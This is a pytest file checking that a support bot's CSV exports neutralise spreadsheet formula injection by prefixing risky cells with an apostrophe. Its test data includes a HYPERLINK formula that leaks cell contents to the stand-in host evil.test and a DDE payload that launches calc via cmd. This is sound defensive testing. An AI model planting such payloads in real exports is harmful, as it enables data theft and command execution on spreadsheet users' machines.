"""CSV formula injection: every CSV deskbot writes neutralises cells a spreadsheet would run."""

import csv
import io
from datetime import UTC, datetime
from types import SimpleNamespace

import pytest

from bot.cli import sla as sla_cli
from bot.csv_safe import neutralised
from bot.kpi import export
from bot.kpi.report import Figure, Report, Table, to_csv
from bot.ranges import DateRange

ATTACKS = [
    '=HYPERLINK("http://evil.test/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_neutralised_and_plain_ones_kept(attack):
    assert neutralised(attack) == "'" + attack
    assert neutralised("Took two tries") == "Took two tries"
    assert neutralised(-5) == -5 and neutralised(2.5) == 2.5  # numbers stay numbers


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_kpi_report_csv_neutralises_its_cells():
    start = datetime(2026, 11, 1, tzinfo=UTC)
    report = Report(
        metric="csat",
        title="CSAT",
        range_label="november",
        start=start,
        end=start,
        figures=[Figure("=cmd()", "label", -3)],
        tables=[Table("by_org", "By org", ["org", "count"], [[ATTACKS[0], 1]])],
    )
    written = cells(to_csv(report, "figures")) + cells(to_csv(report, "by_org"))
    assert "'=cmd()" in written and "'" + ATTACKS[0] in written and "-3" in written
    assert not any(cell.startswith(("=", "+", "@")) for cell in written)


def test_the_ticket_export_neutralises_a_customers_csat_comment(monkeypatch):
    row = [1, datetime(2026, 11, 2, tzinfo=UTC), "=subject()", "C0HELP", "@acme", None, "open"]
    row += [ATTACKS[0]] + [None] * (len(export.COLUMNS) - len(row) - 1)
    monkeypatch.setattr(export, "ticket_rows", lambda session, **_: iter([row]))
    monkeypatch.setattr(export.names, "known_names", lambda session, **_: {})

    class Service:
        def run(self, date_range, write):
            return write(None, SimpleNamespace(start=None, end=None, now=None))

    start = datetime(2026, 11, 1, tzinfo=UTC)
    _, data = export.export_csv(Service(), DateRange(start, start, "november"))
    written = cells(data.decode())
    assert "'" + ATTACKS[0] in written and "'@acme" in written and "'=subject()" in written
    assert "2026-11-02T00:00:00+00:00" in written and "1" in written


def test_sla_whatif_csv_neutralises_policy_names(monkeypatch):
    rows = [{"side": "current", "by": "policy", "key": "=evil()", "target": "frt",
             "clocks": 3, "breached": 1, "within_pct": 66.7}]  # fmt: skip
    monkeypatch.setattr(sla_cli, "_rows", lambda result: rows)
    out = io.StringIO()
    sla_cli._csv(None, {}, out)
    assert "'=evil()" in cells(out.getvalue())
